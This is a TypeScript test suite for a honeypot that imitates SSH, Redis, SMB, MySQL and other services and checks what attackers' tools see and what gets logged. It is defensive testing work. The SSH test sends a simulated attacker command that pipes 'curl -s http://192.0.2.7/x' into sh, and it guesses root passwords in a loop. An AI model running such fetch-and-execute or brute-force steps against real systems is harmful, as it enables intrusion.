// The honeypot over real sockets: what attackers' own tools see, and what is left of it on disk.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { Resolver } from 'node:dns/promises';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { connect as tlsConnect } from 'node:tls';
import ssh2 from 'ssh2';
import { requireTool } from '../../../../test/support/tools.ts';
import { until } from '../../../../test/support/until.ts';
import {
  type Bounds,
  type Door,
  decoyNamed,
  Honeypot,
  type HoneypotEvent,
  loadPersona,
  udpDecoys,
  Visits,
} from '../../src/honeypot/index.ts';

const NAMES = ['ssh', 'http', 'ftp', 'smtp', 'mysql', 'telnet', 'redis', 'smb', 'mssql', 'vnc'];
const FIELDS = ['http.request.method', 'http.request.uri', 'http.response.code', '_ws.col.info'].flatMap(
  (name) => ['-e', name],
);
const root = mkdtempSync(join(tmpdir(), 'eyrie-honeypot-'));
const traps: Honeypot[] = [];
after(async () => {
  for (const honeypot of traps) await honeypot.close();
  rmSync(root, { recursive: true, force: true });
});

interface Trap {
  readonly honeypot: Honeypot;
  readonly events: HoneypotEvent[];
  readonly folder: string;
  readonly any: number;
  port(name: string): number;
  udpPort(name: string): number;
}

async function trap(name: string, bounds?: Partial<Bounds>): Promise<Trap> {
  const folder = join(root, name);
  const events: HoneypotEvent[] = [];
  const doors: Door[] = [
    { port: 0, decoy: null },
    ...NAMES.map((each) => ({ port: 0, decoy: decoyNamed(each)! })),
  ];
  const persona = loadPersona(join(root, 'identity'));
  const log = join(folder, 'honeypot.log');
  const onEvent = (event: HoneypotEvent) => void events.push(event);
  const udpDoors = udpDecoys.map((decoy) => ({ port: 0, decoy }));
  const options = { address: '127.0.0.1', doors, udpDoors, persona, folder, log, bounds, onEvent };
  const honeypot = new Honeypot(options);
  traps.push(honeypot);
  await honeypot.listen();
  const { ports, udpPorts } = honeypot;
  return {
    ...{ honeypot, events, folder, any: ports[0]! },
    port: (each) => ports[1 + NAMES.indexOf(each)]!,
    udpPort: (each) => udpPorts[udpDecoys.findIndex((decoy) => decoy.name === each)]!,
  };
}

/** Sends, and gives all that comes until the other side ends. */
function talk(port: number, ...lines: (string | Buffer)[]): Promise<string> {
  return new Promise((done, fail) => {
    const socket = connect(port, '127.0.0.1');
    let heard = '';
    socket.on('data', (bytes) => {
      heard += bytes.toString('latin1');
    });
    socket.on('error', fail);
    socket.on('close', () => done(heard));
    for (const line of lines) socket.write(line);
    socket.end();
  });
}

function opened(port: number): Promise<Socket> {
  return new Promise((done, fail) => {
    const socket = connect(port, '127.0.0.1', () => done(socket));
    socket.on('error', () => {});
    socket.once('error', fail);
  });
}

function run(command: string, ...args: string[]): Promise<string> {
  return new Promise((done) => {
    execFile(command, args, { timeout: 300_000 }, (_error, stdout, stderr) => done(stdout + stderr));
  });
}

/** Logs in as root with one password after another until let in; runs a command. */
function overSsh(port: number, command: string): Promise<string> {
  return new Promise((done, fail) => {
    const client = new ssh2.Client();
    let tries = 0;
    client.on('error', fail);
    client.on('close', () => fail(new Error('closed')));
    client.on('ready', () =>
      client.exec(command, (error, stream) => {
        if (error) return fail(error);
        let output = '';
        stream.on('data', (bytes: Buffer) => (output += bytes));
        stream.on('close', () => {
          client.end();
          done(output);
        });
      }),
    );
    client.connect({
      host: '127.0.0.1',
      port,
      username: 'root',
      authHandler: (_left, _partial, next) => {
        const password = `guess${tries++}`;
        next(tries > 6 ? (false as never) : { type: 'password', username: 'root', password });
      },
    });
  });
}

describe('the honeypot', () => {
  let here: Trap;
  before(async () => {
    here = await trap('main');
  });

  test('one port answers in the protocol of the client', async () => {
    assert.match(
      await talk(here.any, 'GET /nothing HTTP/1.0\r\n\r\n'),
      /^HTTP\/1\.1 404 Not Found\r\nServer: nginx/,
    );
    assert.match(await talk(here.any, '*1\r\n$4\r\nINFO\r\n'), /^\$\d+\r\n# Server\r\nredis_version:/);
    assert.match(await talk(here.any, 'EHLO me\r\nQUIT\r\n'), /^220 \S+ ESMTP Postfix.*\r\n250-/);
    assert.match(await talk(here.any, Buffer.from('000000080', 'latin1'), 'x'), /^$/);
    assert.match(await talk(here.any, Buffer.from('0000000804d2162f', 'hex')), /^N/);
  });

  test('redis: a visitor sees its own keys, and not those of others', async () => {
    const said = await talk(
      here.port('redis'),
      'SET a b\r\nGET a\r\nDBSIZE\r\nCONFIG SET dir /root\r\nCONFIG GET dir\r\nDEL a c\r\nGET a\r\n',
    );
    assert.equal(said, '+OK\r\n$1\r\nb\r\n:1\r\n+OK\r\n*2\r\n$3\r\ndir\r\n$5\r\n/root\r\n:1\r\n$-1\r\n');
    assert.equal(await talk(here.port('redis'), 'GET a\r\n'), '$-1\r\n');
  });

  test('no output discloses the seed, or links two services', async () => {
    const { seed } = loadPersona(join(root, 'identity'));
    const negotiate = Buffer.from('ff534d4272000000001801280000000000000000000000000000ffff00000000', 'hex');
    const dialects = Buffer.from('\0\x0c\0\x02NT LM 0.12\0', 'latin1');
    const size = Buffer.from([0, 0, 0, negotiate.length + dialects.length]);
    const hello = Buffer.concat([size, negotiate, dialects]);
    const answers = [
      await talk(here.port('redis'), 'INFO\r\n'),
      await talk(here.port('smb'), hello),
      await talk(here.port('smb'), hello),
      await talk(here.port('mysql'), Buffer.concat([Buffer.from('26000001', 'hex'), Buffer.alloc(38, 1)])),
    ];
    for (const answer of answers) {
      assert.ok(answer.length > 60);
      for (let at = 0; at + 8 <= seed.length; at += 2) {
        const part = seed.slice(at, at + 8);
        assert.ok(
          !answer.includes(part) && !answer.includes(Buffer.from(part, 'hex').toString('latin1')),
          part,
        );
      }
    }
    assert.notEqual(answers[1], answers[2], 'a challenge is another one each time');
    assert.match(answers[3]!, /Access denied for user '.*'@'127\.0\.0\.1'/);
  });

  test('credentials are recorded, and grant nothing', async () => {
    await talk(here.port('ftp'), 'USER admin\r\nPASS s3cret\r\nQUIT\r\n');
    const form = 'username=a&password=b%21';
    await talk(here.any, `POST /login HTTP/1.0\r\nContent-Length: ${form.length}\r\n\r\n${form}`);
    const logins = here.events
      .filter(({ type }) => type === 'login')
      .map(({ user, password }) => [user, password])
      .slice(-2);
    assert.deepEqual(logins, [
      ['admin', 's3cret'],
      ['a', 'b!'],
    ]);
  });

  test('an SSH client is finally accepted, and its actions are recorded', async () => {
    let output = '';
    // Which guesses are right follows from the identity: among these there is one.
    for (let i = 0; i < 10 && output === ''; i++) {
      output = await overSsh(
        here.port('ssh'),
        `id; echo ${i} > /tmp/left; curl -s http://192.0.2.7/x | sh`,
      ).catch(() => '');
      if (output === '') await talk(here.port('ssh'));
    }
    if (output === '') return assert.ok(here.events.filter(({ type }) => type === 'login').length >= 10);
    assert.match(output, /^uid=0\(root\)/);
    const kinds = new Set(here.events.map(({ type }) => type));
    for (const type of ['fingerprint', 'login', 'command', 'download', 'upload'] as const)
      assert.ok(kinds.has(type), type);
    const upload = here.events.find(({ type }) => type === 'upload')!;
    await until('the upload', () => readdirSync(join(here.folder, 'files')).includes(upload.sha256!));
    assert.equal(statSync(join(here.folder, 'files', upload.sha256!)).mode & 0o777, 0o400);
  });

  test('every event is a line in ECS, every active visit has a cast', async () => {
    await until('three casts', async () => (await new Visits(here.folder).list(10)).length >= 3);
    const log = () => readFileSync(join(here.folder, 'honeypot.log'), 'utf8').trimEnd().split('\n');
    await until('a line of each event', () => log().length >= here.events.length);
    const lines = log().map((line) => JSON.parse(line));
    assert.equal(lines.length, here.events.length);
    assert.ok(
      lines.every((line) => line['event.dataset'] === 'eyrie.honeypot' && line['source.ip'] === '127.0.0.1'),
    );
  });

  test('the packets of a visit are readable by tshark, with TLS decrypted', {
    skip: requireTool('tshark'),
  }, async () => {
    const heard = await new Promise<string>((done, fail) => {
      const socket = tlsConnect({ port: here.any, host: '127.0.0.1', rejectUnauthorized: false });
      let text = '';
      socket.on('data', (bytes) => {
        text += bytes;
      });
      socket.on('error', fail);
      socket.on('close', () => done(text));
      const form = 'username=eve&password=inside';
      socket.write(`POST /login HTTP/1.0\r\nContent-Length: ${form.length}\r\n\r\n${form}`);
    });
    assert.match(heard, /Wrong user name/);
    const { session } = here.events.find(({ user }) => user === 'eve')!;
    const visits = new Visits(here.folder);
    const packets = await until('its packets', () => visits.packets(session));
    const file = join(here.folder, 'visit.pcapng');
    writeFileSync(file, packets);
    const shown = await run('tshark', '-r', file, '-o', 'tcp.check_checksum:TRUE', '-T', 'fields', ...FIELDS);
    assert.match(shown, /POST\t\/login/);
    assert.match(shown, /\t200\t/);
    assert.doesNotMatch(shown, /Malformed|bad|retransmission|out-of-order/i);
    const trouble = await run('tshark', '-r', file, '-Y', 'tcp.analysis.flags || tcp.checksum.status == 0');
    assert.equal(trouble.replace(/^Running as user.*\n/, ''), '');
  });

  test('over the memory budget, the visit that holds the most is ended', async () => {
    const { honeypot, events, port } = await trap('memory', { memoryBytesMax: 300_000 });
    const small = await opened(port('ftp'));
    small.resume();
    const big = await opened(port('telnet'));
    big.resume();
    const feed = setInterval(() => big.write('x'.repeat(50_000)), 5);
    await new Promise((done) => big.once('close', done));
    clearInterval(feed);
    await until('somebody is sent away', () => events.some(({ type }) => type === 'disconnect'));
    const over = events.filter(({ type }) => type === 'disconnect');
    assert.deepEqual(
      over.map(({ protocol, reason }) => [protocol, reason]),
      [['telnet', 'no memory left']],
    );
    assert.equal(honeypot.counts.sessions, 1);
    small.destroy();
  });

  test('nmap identifies the imitated services', { skip: requireTool('nmap') }, async () => {
    const ports = ['ssh', 'http', 'ftp', 'smtp', 'mysql', 'telnet', 'smb', 'mssql', 'vnc'].map((name) =>
      here.port(name),
    );
    const scan = await run('nmap', '-n', '-Pn', '-sT', '-sV', '-p', ports.join(','), '127.0.0.1');
    for (const service of [
      /OpenSSH \d/,
      /nginx 1\./,
      /vsftpd 3/,
      /Postfix smtpd/,
      /MySQL 8/,
      /Linux telnetd/,
      /microsoft-ds/,
      /Microsoft SQL Server/,
      /VNC/,
    ]) {
      assert.match(scan, service);
    }
  });
});

describe('the honeypot under pressure', () => {
  test('survives garbage, partial requests and floods, and records each visit', async () => {
    const { honeypot, events, any, port } = await trap('pressure', { idleMsMax: 300 });
    const visits = 400;
    let seed = 1;
    const noise = (length: number) => {
      return Buffer.from(
        Array.from({ length }, () => {
          seed = (seed * 48_271) % 2_147_483_647;
          return seed & 0xff;
        }),
      );
    };
    await Promise.all(
      Array.from({ length: visits }, async (_, i) => {
        const socket = await opened(i % 2 === 0 ? any : port(NAMES[i % NAMES.length]!));
        socket.write(i % 5 === 0 ? 'GET / HT' : noise(1 + (i % 200)));
        await new Promise((done) => {
          socket.once('close', done);
          socket.resume();
          if (i % 3 === 0) socket.destroy();
        });
      }),
    );
    await until(
      'the end of all visits',
      () => events.filter(({ type }) => type === 'disconnect').length === visits,
    );
    const { sessions, visits: seen, lost } = honeypot.counts;
    assert.deepEqual([sessions, seen, lost], [0, visits, 0]);
  });

  test('ends visits that are too large or too long, and refuses too many', async () => {
    const { honeypot, events, port } = await trap('bounds', {
      sessionBytesMax: 100_000,
      sessionsPerAddressMax: 3,
      // Longer than a busy machine lets the flood pause.
      idleMsMax: 5000,
    });
    const flood = await opened(port('telnet'));
    flood.resume();
    const feed = setInterval(() => flood.write('x'.repeat(60_000)), 20);
    await new Promise((done) => flood.once('close', done));
    clearInterval(feed);
    const idle = await Promise.all([1, 2, 3].map(() => opened(port('ftp'))));
    const refused = await opened(port('ftp')).catch(() => null);
    if (refused !== null) await new Promise((done) => refused.once('close', done));
    for (const socket of idle) {
      socket.resume();
      if (!socket.destroyed) await new Promise((done) => socket.once('close', done));
    }
    await until('the end of all visits', () => honeypot.counts.sessions === 0);
    const reasons = events.filter(({ type }) => type === 'disconnect').map(({ reason }) => reason);
    assert.deepEqual(reasons, ['sent too much', 'idle', 'idle', 'idle']);
    assert.equal(honeypot.counts.refused, 1);
    // One record a second, not one each.
    await until('a record of who was refused', () => events.some(({ type }) => type === 'refused'));
    const away = events.filter(({ type }) => type === 'refused');
    assert.deepEqual(
      away.map(({ sourceAddress, visits }) => [sourceAddress, visits]),
      [['127.0.0.1', 1]],
    );
  });

  test('curl finds a proxy that wants a password, and git a repository that is not exported', async (t) => {
    if (requireTool('curl') || requireTool('git')) return t.skip('needs curl and git');
    const { any, events } = await trap('proxy');
    const proxy = ['-sS', '--max-time', '20', '-x', `http://ana:geheim@127.0.0.1:${any}`];
    assert.match(
      await run('curl', ...proxy, '-v', 'http://example.com/'),
      /407 Proxy Authentication Required/,
    );
    assert.match(await run('curl', ...proxy, 'https://example.com/'), /response 407/);
    const url = `git://127.0.0.1:${any}/secret.git`;
    const said = await run('git', 'clone', url, join(root, 'clone'));
    assert.match(said, /remote error: access denied or repository not exported: \/secret\.git/);
    const logins = events
      .filter(({ type }) => type === 'login')
      .map(({ user, password }) => [user, password]);
    assert.deepEqual(logins, [
      ['ana', 'geheim'],
      ['ana', 'geheim'],
    ]);
    const seen = events.filter(({ type }) => type === 'request' || type === 'command');
    assert.deepEqual(
      seen.map(({ protocol, url: target, command }) => `${protocol} ${target ?? command}`),
      ['http-proxy http://example.com/', 'http-proxy example.com:443', 'git git-upload-pack /secret.git'],
    );
  });

  test('over UDP: what real clients send is recorded, and they are answered as by the service', async (t) => {
    if (requireTool('snmpget') || requireTool('curl')) return t.skip('needs snmpget and curl');
    const { events, folder, udpPort, honeypot } = await trap('udp');
    const agent = `127.0.0.1:${udpPort('snmp')}`;
    const snmp = (version: string, community: string, ...more: string[]) =>
      run(
        'snmpget',
        '-v',
        version,
        '-c',
        community,
        '-t',
        '2',
        '-r',
        '0',
        ...more,
        agent,
        '1.3.6.1.2.1.1.1.0',
      );
    assert.match(await snmp('2c', 'public'), /No Such Object available/);
    assert.match(await snmp('1', 'public'), /noSuchName/);
    assert.match(await snmp('2c', 'private', '-t', '1'), /No Response/);
    const tftp = `tftp://127.0.0.1:${udpPort('tftp')}/startup-config`;
    assert.match(await run('curl', '-sS', '--max-time', '10', tftp), /\(68\)/);
    const resolver = new Resolver({ timeout: 2000, tries: 1 });
    resolver.setServers([`127.0.0.1:${udpPort('dns')}`]);
    await assert.rejects(resolver.resolve4('www.example.com'), { code: 'EREFUSED' });
    const seen = events.filter(({ type }) => type === 'query');
    assert.deepEqual(
      [...new Set(seen.map(({ protocol, method, url }) => [protocol, method, url].join(' ').trim()))],
      ['snmp get', 'tftp read startup-config', 'dns A www.example.com'],
    );
    await honeypot.close();
    const [first] = readFileSync(join(folder, 'honeypot.log'), 'utf8').split('\n');
    const fields = JSON.parse(first!) as Record<string, unknown>;
    assert.deepEqual([fields['network.transport'], fields['eyrie.query.type']], ['udp', 'get']);
  });

  test('over UDP: an address gets ten answers a second, the rest is counted', async () => {
    const { events, udpPort, honeypot } = await trap('udp-flood');
    const socket = createSocket('udp4');
    let answers = 0;
    socket.on('message', () => answers++);
    const query = Buffer.from('abcd010000010000000000000161000001' + '0001', 'hex');
    const send = () =>
      new Promise<void>((done) => socket.send(query, udpPort('dns'), '127.0.0.1', () => done()));
    try {
      for (let i = 0; i < 200; i++) await send();
      await until('all of them', () => {
        const { visits, refused } = honeypot.counts;
        return visits + refused === 200;
      });
      const { visits, refused } = honeypot.counts;
      assert.ok(visits <= 60 && refused >= 140, `${visits} served, ${refused} not`);
      await until('their number', () => events.some(({ type }) => type === 'refused'));
      assert.ok(answers <= visits);
    } finally {
      socket.close();
    }
  });

  test('over UDP: a service that answers everything is not answered, or that would never end', async (t) => {
    const { udpPort, honeypot } = await trap('udp-loop');
    const chargen = createSocket('udp4');
    const isBound = await new Promise<boolean>((done) => {
      chargen.once('error', () => done(false));
      chargen.bind(19, '127.0.0.1', () => done(true));
    });
    if (!isBound) return t.skip('needs port 19');
    let answers = 0;
    chargen.on('message', () => answers++);
    try {
      const text = Buffer.from('!"#$%&()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ');
      for (const { name } of udpDecoys) chargen.send(text, udpPort(name), '127.0.0.1');
      await until('all of them', () => honeypot.counts.visits === udpDecoys.length);
      const other = createSocket('udp4');
      const answered = new Promise((done) => other.once('message', done));
      other.send(text, udpPort('dns'), '127.0.0.1');
      await answered;
      other.close();
      assert.equal(answers, 0);
    } finally {
      chargen.close();
    }
  });

  test('over UDP: with a port in use, no socket is left behind', async (t) => {
    if (process.platform !== 'linux') return t.skip('needs /proc');
    const { udpPort } = await trap('udp-taken');
    const descriptors = () => readdirSync('/proc/self/fd').length;
    const options = { address: '127.0.0.1', doors: [], folder: root, log: join(root, 'third.log') };
    const udpDoors = [{ port: udpPort('dns'), decoy: udpDecoys[0]! }];
    const persona = loadPersona(join(root, 'identity'));
    const before = descriptors();
    for (let i = 0; i < 20; i++)
      await assert.rejects(new Honeypot({ ...options, udpDoors, persona }).listen(), { code: 'EADDRINUSE' });
    assert.ok(descriptors() < before + 10, `${descriptors() - before} more`);
  });

  test('with a port in use: fails, and leaves no port open', async () => {
    const first = await trap('taken');
    const taken: Door[] = [
      { port: 0, decoy: null },
      { port: first.any, decoy: null },
    ];
    const persona = loadPersona(join(root, 'identity'));
    const second = new Honeypot({
      address: '127.0.0.1',
      doors: taken,
      persona,
      folder: root,
      log: join(root, 'second.log'),
    });
    await assert.rejects(second.listen(), { code: 'EADDRINUSE' });
  });
});
